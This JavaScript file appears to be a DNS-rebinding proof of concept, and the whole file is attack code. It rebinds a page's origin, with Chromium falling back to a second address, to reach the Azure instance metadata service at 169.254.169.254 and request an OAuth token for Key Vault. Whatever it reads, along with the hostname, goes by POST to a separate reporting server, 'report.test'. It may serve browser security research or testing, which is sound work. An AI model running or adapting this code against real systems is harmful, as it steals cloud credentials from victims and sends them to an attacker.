// What the pages share. The attacker gets to know what a page has found out by report, on a second server.
const path = '/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net';
const endpoint = 'http://169.254.169.254' + path;

function report(found) {
  return fetch('http://report.test/', {method: 'POST', mode: 'no-cors', body: location.hostname + '\n' + found});
}

// answer says what a response lets a page see.
async function answer(response) {
  return [response.type, response.status, response.headers.get('server'), await response.text()].join(' ');
}

// told reports what comes of an attack, or how it failed.
function told(attack) {
  return attack.catch(String).then(report);
}

// rebound fetches from this page's own origin once that means somebody else: the attacker's server does not answer any more, and
// Chromium goes on to the second address of its name.
async function rebound(options) {
  await fetch('/leave');
  for (;;) {
    try {
      const response = await fetch(path, options);
      if (response.headers.get('server') !== 'attacker') return response;
    } catch { } // neither of the two yet
    await new Promise(again => setTimeout(again, 20));
  }
}
